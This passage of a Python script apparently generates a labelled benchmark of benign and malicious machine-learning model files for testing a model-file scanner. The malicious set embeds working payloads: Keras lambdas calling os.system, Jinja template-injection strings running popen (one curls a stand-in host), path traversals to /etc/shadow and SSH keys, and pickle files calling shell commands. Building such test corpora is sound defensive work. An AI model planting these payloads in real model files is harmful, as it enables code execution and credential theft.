# ---------------------------------------------------------------------------
# Main
# ---------------------------------------------------------------------------


def loguniform(rng, lo, hi):
    return int(np.exp(rng.uniform(np.log(lo), np.log(hi))))


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--out", required=True)
    ap.add_argument("--seed", type=int, default=20261123)
    ap.add_argument("--scale", type=float, default=1.0, help="shrink counts and sizes (0<scale<=1)")
    ap.add_argument("--scaling-dir", help="also write the 10 MB / 100 MB / 1 GB checkpoints here")
    args = ap.parse_args()
    s = max(0.01, min(1.0, args.scale))
    data = Data(args.seed)
    rng = data.rng
    root = os.path.abspath(args.out)
    os.makedirs(root, exist_ok=True)
    manifest = []

    def put(rel, label, technique, fmt, writer):
        path = os.path.join(root, rel)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        writer(path)
        manifest.append({"path": rel, "label": label, "technique": technique, "format": fmt,
                         "size": os.path.getsize(path)})

    def put_bytes(rel, label, technique, fmt, b):
        put(rel, label, technique, fmt, lambda p: open(p, "wb").write(b))

    def cnt(n):
        return max(1, int(round(n * s)))

    roots = ["archive", "model", "pytorch_model", "checkpoint", "resnet50", "llama_tiny"]

    # ---------------- benign ----------------
    for i in range(cnt(420)):
        size = int(loguniform(rng, 100 << 10, 20 << 20) * (s if s < 1 else 1))
        ext = [".pt", ".pth", ".bin", ".ckpt"][i % 4]
        put(f"benign/torch_zip/ckpt_{i:04d}{ext}", "benign", "torch_zip", "pytorch-zip",
            lambda p, size=size, i=i: write_torch_zip(p, data, size, roots[i % len(roots)], random=(i % 3 != 0)))
    for i, mb in enumerate([100, 180, 250, 500]):
        if s < 1:
            mb = max(1, int(mb * s))
        put(f"benign/torch_zip_large/large_{i}.pt", "benign", "torch_zip_large", "pytorch-zip",
            lambda p, mb=mb, i=i: write_torch_zip(p, data, mb << 20, roots[i % len(roots)], random=False))
    for i in range(cnt(60)):
        size = int(loguniform(rng, 100 << 10, 8 << 20) * (s if s < 1 else 1))
        put(f"benign/torch_legacy/legacy_{i:03d}.pt", "benign", "torch_legacy", "pytorch-legacy",
            lambda p, size=size, i=i: write_torch_legacy(p, data, size, random=(i % 2 == 0)))
    for i in range(cnt(80)):
        size = int(loguniform(rng, 10 << 10, 8 << 20) * (s if s < 1 else 1))
        put(f"benign/npy/array_{i:03d}.npy", "benign", "npy", "npy", lambda p, size=size: write_npy(p, data, size))
    for i in range(cnt(50)):
        size = int(loguniform(rng, 50 << 10, 8 << 20) * (s if s < 1 else 1))
        put(f"benign/npz/arrays_{i:03d}.npz", "benign", "npz", "npz",
            lambda p, size=size, i=i: write_npz(p, data, size, compressed=(i % 4 == 0)))
    for i in range(cnt(60)):
        size = int(loguniform(rng, 20 << 10, 8 << 20) * (s if s < 1 else 1))
        ext = [".joblib", ".pkl"][i % 2]
        put(f"benign/joblib/model_{i:03d}{ext}", "benign", "joblib", "joblib",
            lambda p, size=size: write_joblib(p, data, size))
    for i in range(cnt(60)):
        size = int(loguniform(rng, 100 << 10, 16 << 20) * (s if s < 1 else 1))
        put(f"benign/safetensors/model_{i:03d}.safetensors", "benign", "safetensors", "safetensors",
            lambda p, size=size: write_safetensors(p, data, size))
    for i in range(cnt(40)):
        obj = {"epoch": i, "step": i * 1000, "lr": 3e-4, "history": [float(x) for x in rng.random(int(rng.integers(10, 5000)))],
               "config": {"hidden": 768, "layers": 12, "name": f"run-{i}"}, "tags": ("a", "b"), "ok": True}
        if i % 3 == 0:
            obj = collections.OrderedDict(obj)
        put_bytes(f"benign/pickle/state_{i:03d}.pkl", "benign", "plain_pickle", "pickle",
                  pickle.dumps(obj, protocol=[2, 3, 4, 5][i % 4]))
    for i in range(cnt(20)):
        put(f"benign/onnx/model_{i:03d}.onnx", "benign", "onnx", "onnx",
            lambda p, i=i: write_onnx(p, data, 64 * (1 + i % 8), 128))
    for i in range(cnt(20)):
        size = int(loguniform(rng, 100 << 10, 4 << 20) * (s if s < 1 else 1))
        put(f"benign/gguf/model_{i:03d}.gguf", "benign", "gguf", "gguf",
            lambda p, size=size: write_gguf(p, data, size, BENIGN_TEMPLATE))
    for i in range(cnt(20)):
        put(f"benign/keras_h5/model_{i:03d}.h5", "benign", "keras_h5", "keras-h5",
            lambda p, i=i: write_keras_h5(p, data, [keras_layer_dense(j, 32) for j in range(1 + i % 3)], 32))
    for i in range(cnt(20)):
        put(f"benign/keras_v3/model_{i:03d}.keras", "benign", "keras_v3", "keras-v3",
            lambda p, i=i: write_keras_v3(p, data, [keras3_dense(j, 32) for j in range(1 + i % 3)], 32))

    # ---------------- malicious ----------------
    k = max(2, int(round(16 * max(s, 0.25))))
    families = {
        "os_system_reduce": fam_os_system(k),
        "subprocess": fam_subprocess(k),
        "builtins_eval_exec": fam_eval_exec(k),
        "getattr_chain": fam_getattr_chain(k),
        "memo_global": fam_memo_global(k),
        "stack_global_computed": fam_stack_global_computed(k),
        "proto0_inst_obj": fam_inst_obj(k),
        "nested_pickle_loads": fam_nested_pickle(k),
        "pip_main": fam_pip_main(k),
        "runpy_run_code": fam_runpy(k),
        "operator_gadget": fam_operator_gadget(k),
        "misc_dangerous_globals": fam_misc_dangerous(k),
        "reduce_then_junk": fam_reduce_then_junk(data, k),
        "stacked_pickle": fam_stacked_pickle(k),
        "disguised_extension": fam_disguised_ext(k),
        "compressed_pickle": fam_compressed(k),
    }
    for tech, items in families.items():
        for i, (b, ext) in enumerate(items):
            put_bytes(f"malicious/{tech}/{tech}_{i:02d}{ext}", "malicious", tech, "pickle", b)

    for i in range(k):
        size = loguniform(rng, 200 << 10, 6 << 20)
        layout = state_dict_layout(rng, size)
        pkl = mal_state_dict_pickle(layout, CMDS[i % len(CMDS)], i)
        put(f"malicious/torch_zip_data_pkl/ckpt_{i:02d}.pt", "malicious", "torch_zip_data_pkl", "pytorch-zip",
            lambda p, size=size, layout=layout, pkl=pkl, i=i: write_torch_zip(
                p, data, size, roots[i % len(roots)], random=True, pkl_override=pkl, layout=layout))
    for i in range(k):
        size = loguniform(rng, 200 << 10, 6 << 20)
        evil = mal_call([2, 4][i % 2], "os", "system", CMDS[i % len(CMDS)])
        mname = ["extra.pkl", "data/hook.pkl", "code/__init__.pkl", "tokenizer.pkl"][i % 4]
        put(f"malicious/torch_zip_extra_member/ckpt_{i:02d}.pth", "malicious", "torch_zip_extra_member", "pytorch-zip",
            lambda p, size=size, evil=evil, mname=mname, i=i: write_torch_zip(
                p, data, size, roots[i % len(roots)], random=True, extra_members=[(mname, evil)]))
    for i in range(k):
        size = loguniform(rng, 100 << 10, 4 << 20)
        layout = state_dict_layout(rng, size, max_tensors=24)
        pkl = mal_state_dict_pickle(layout, CMDS[i % len(CMDS)], i)
        put(f"malicious/torch_legacy_pickle/legacy_{i:02d}.pt", "malicious", "torch_legacy_pickle", "pytorch-legacy",
            lambda p, size=size, pkl=pkl: write_torch_legacy(p, data, size, random=True, main_override=pkl))
    for i in range(k):
        inner = mal_call([2, 3, 4][i % 3], ["os", "subprocess", "builtins"][i % 3],
                         ["system", "getoutput", "eval"][i % 3],
                         CMDS[i % len(CMDS)] if i % 3 != 2 else "__import__('os').system('id')")
        put_bytes(f"malicious/npy_object_pickle/arr_{i:02d}.npy", "malicious", "npy_object_pickle", "npy",
                  npy_object_with_pickle(inner))
    for i in range(k):
        b = joblib_malicious_pickle(i)
        ext = [".joblib", ".pkl", ".joblib"][i % 3]
        if i % 3 == 2:
            # joblib's own compression: zlib stream behind joblib's header
            import zlib
            b = zlib.compress(b)  # a zlib stream, as joblib.dump(compress=("zlib", 3)) writes
            ext = ".joblib.z"
        put_bytes(f"malicious/joblib_malicious/model_{i:02d}{ext}", "malicious", "joblib_malicious", "joblib", b)
    for i in range(k):
        src = ["lambda x: __import__('os').system('id') or x",
               "lambda x: exec(\"import socket\") or x",
               "lambda x: __import__('subprocess').getoutput('whoami') and x"][i % 3]
        put(f"malicious/keras_h5_lambda/model_{i:02d}.h5", "malicious", "keras_h5_lambda", "keras-h5",
            lambda p, src=src, i=i: write_keras_h5(
                p, data, [keras_layer_dense(0, 16), keras_lambda_v2(lambda_code_b64(src))], 16))
    for i in range(k):
        src = ["lambda x: __import__('os').system('id') or x",
               "lambda x: __import__('builtins').eval('1') and x"][i % 2]
        put(f"malicious/keras_v3_lambda/model_{i:02d}.keras", "malicious", "keras_v3_lambda", "keras-v3",
            lambda p, src=src: write_keras_v3(p, data, [keras3_dense(0, 16), keras3_lambda(lambda_code_b64(src))], 16))
    ssti = [
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{% for m in messages %}{{ m.content }}{% endfor %}{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "{{ self.__init__.__globals__.__builtins__.__import__('os').system('id') }}",
        "{% set x = namespace() %}{{ x.__class__.__base__.__subclasses__()[137].__init__.__globals__['popen']('whoami').read() }}",
        "{{ lipsum.__globals__['os'].popen('curl http://203.0.113.7').read() }}",
        "{{ joiner.__init__.__globals__.__builtins__.eval(\"__import__('os').system('id')\") }}",
    ]
    for i in range(k):
        size = loguniform(rng, 64 << 10, 1 << 20)
        put(f"malicious/gguf_ssti/model_{i:02d}.gguf", "malicious", "gguf_ssti_template", "gguf",
            lambda p, size=size, i=i: write_gguf(p, data, size, ssti[i % len(ssti)]))
    trav = ["../../../../etc/passwd", "/etc/shadow", "../../.ssh/id_rsa", "..\\..\\windows\\win.ini",
            "weights/../../../proc/self/environ", "/proc/self/mem"]
    for i in range(k):
        ext_data = [("location", trav[i % len(trav)]), ("offset", "0"), ("length", "4096")]
        put(f"malicious/onnx_external_traversal/model_{i:02d}.onnx", "malicious", "onnx_external_path_traversal",
            "onnx", lambda p, ext_data=ext_data: write_onnx(p, data, 64, 64, external=ext_data))
    for i in range(k):
        layout = state_dict_layout(rng, 256 << 10, max_tensors=6)
        state = collections.OrderedDict()
        for j, (name, shape) in enumerate(layout):
            numel = int(np.prod(shape))
            state[name] = TensorRef(StorageRef(FloatStorage, str(j), numel), 0, shape, contiguous_stride(shape))
        rt = roots[i % len(roots)]
        members = [(f"{rt}/data.pkl", torch_pickle(state)), (f"{rt}/version", b"3\n")]
        for j, (_, shape) in enumerate(layout):
            members.append((f"{rt}/data/{j}", data.floats(int(np.prod(shape)) * 4, True)))
        evil = mal_call([2, 4][i % 2], "os", "system", CMDS[i % len(CMDS)])
        # central directory says it is a storage blob; the local header says data.pkl
        members.append((f"{rt}/data/{len(layout) + 7}", evil))
        lie_local = f"{rt}/data.pkl" if i % 2 == 0 else f"{rt}/payload.pkl"
        put_bytes(f"malicious/zip_name_mismatch/ckpt_{i:02d}.pt", "malicious", "zip_name_mismatch", "pytorch-zip",
                  zip_name_mismatch(members, len(members) - 1, lie_local))

    manifest.sort(key=lambda m: m["path"])
    with open(os.path.join(root, "manifest.json"), "w") as f:
        json.dump({"seed": args.seed, "scale": s, "files": manifest}, f, indent=1)

    if args.scaling_dir:
        sd = os.path.abspath(args.scaling_dir)
        os.makedirs(sd, exist_ok=True)
        srng = np.random.default_rng(args.seed + 1)
        names = [f"model.layers.{j // 8}.{LAYER_NAMES[j % 8]}.weight" for j in range(32)]
        for label, total in [("10MB", 10 << 20), ("100MB", 100 << 20), ("1GB", 1 << 30)]:
            # Same 32 tensor names and the same 2-D layout: each tensor has
            # total/32 bytes, shape (rows, 256); only the row count differs.
            rows = total // 32 // 4 // 256
            layout = [(n, (rows, 256)) for n in names]
            write_torch_zip(os.path.join(sd, f"ckpt_{label}.pt"), data, total, "archive", random=False, layout=layout)
        del srng

    n_b = sum(1 for m in manifest if m["label"] == "benign")
    n_m = len(manifest) - n_b
    tot = sum(m["size"] for m in manifest)
    print(f"corpus: {len(manifest)} files ({n_b} benign, {n_m} malicious), {tot / 1e9:.2f} GB in {root}")


if __name__ == "__main__":
    main()
